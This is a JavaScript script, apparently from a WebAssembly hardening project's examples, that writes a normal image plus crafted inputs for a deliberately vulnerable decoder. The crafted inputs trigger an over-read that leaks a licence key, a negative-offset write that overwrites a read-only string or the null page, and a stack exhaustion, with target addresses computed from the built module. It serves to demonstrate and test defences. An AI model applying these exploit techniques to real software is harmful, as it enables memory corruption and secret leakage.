// Writes the example's inputs beside this file: a normal image, and one
// crafted input per bug. Addresses come from the built module itself: the
// exported `overlay` global (the tile buffer's address) and the `.rodata`
// data segment (where the verdict strings live).
//
//   npm run build && node examples/vulnerable-decoder/craft.mjs [OUT_DIR]
//   node examples/vulnerable-decoder/craft.mjs --large W H FILE   (a large image for bench/harden.ts)

import { readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { decodeModule } from 'wasm-warden';

const here = dirname(fileURLToPath(import.meta.url));

const u16 = (n) => [n & 0xff, (n >> 8) & 0xff];
const u32 = (n) => [n & 0xff, (n >>> 8) & 0xff, (n >>> 16) & 0xff, (n >>> 24) & 0xff];
const chunk = (tag, payload) => [tag.charCodeAt(0), ...u16(payload.length), ...payload];
const header = (w, h) => [...Buffer.from('WIMG'), ...u16(w), ...u16(h)];
const text = (s) => [...Buffer.from(s, 'latin1')];

/** Rows of filter byte + pixels: a gradient with every filter in turn. */
export function pixels(w, h) {
  const out = new Uint8Array(h * (w + 1));
  for (let y = 0; y < h; y++) {
    out[y * (w + 1)] = y % 5;
    for (let x = 0; x < w; x++) out[y * (w + 1) + 1 + x] = (x * 7 + y * 3 + ((x * y) >> 4)) & 0xff;
  }
  return out;
}

/** A well-formed image: header, one comment, the pixels (the 'D' chunk runs to the end of the file). */
export function image(w, h, note = 'a small gradient') {
  return Uint8Array.from([...header(w, h), ...chunk('C', text(note)), ...chunk('D', []), ...pixels(w, h)]);
}

function layout(wasmBytes) {
  const module = decodeModule(wasmBytes);
  const overlayExport = module.exports.find((e) => e.kind === 'global' && e.name === 'overlay');
  const overlay = module.globals.at(overlayExport.index - module.importedGlobalCount).init.value.value >>> 0;
  const rodataIndex = [...(module.names?.data ?? [])].find(([, name]) => name === '.rodata')?.[0];
  const segment = module.data.at(rodataIndex);
  const rodataStart = segment.mode.offset.value.value >>> 0;
  const bytes = Buffer.from(wasmBytes.subarray(segment.start, segment.end));
  const clean = bytes.indexOf(Buffer.from('image is clean\0', 'latin1'));
  return { overlay, rodataStart, rodataEnd: rodataStart + bytes.length, cleanVerdict: rodataStart + clean };
}

export function craft(wasmBytes) {
  const { overlay, cleanVerdict } = layout(wasmBytes);
  // Bug 1: the comment claims 160 bytes; the file ends after 4. The copy runs on
  // past the input buffer into the decoder's state, which holds the licence key.
  const leak = Uint8Array.from([...header(1, 1), ...chunk('C', []).slice(0, 1), ...u16(160), ...text('hi!!')]);
  // Bug 2: a tile at a negative offset that lands on the read-only verdict string.
  const rodata = Uint8Array.from([...header(1, 1), ...chunk('T', [...u32(cleanVerdict - overlay), ...text('image is PWNED')])]);
  // Bug 2 again: a tile in the null page (address 16).
  const nullPage = Uint8Array.from([...header(1, 1), ...chunk('T', [...u32(16 - overlay), ...text('NULLPAGE')])]);
  // Bug 3: groups nested 40 deep, each level a 512-byte row on the stack (16 KiB of it).
  let nested = [];
  for (let i = 0; i < 40; i++) nested = chunk('G', nested);
  const stack = Uint8Array.from([...header(1, 1), ...nested]);
  return { 'normal.wimg': image(64, 48), 'leak.wimg': leak, 'rodata.wimg': rodata, 'null.wimg': nullPage, 'stack.wimg': stack };
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  if (process.argv[2] === '--large') {
    const [w, h, file] = [Number(process.argv[3]), Number(process.argv[4]), process.argv[5]];
    writeFileSync(file, image(w, h, 'large'));
  } else {
    const out = process.argv[2] ?? here;
    for (const [name, bytes] of Object.entries(craft(readFileSync(join(here, 'wimg.wasm'))))) writeFileSync(join(out, name), bytes);
  }
}
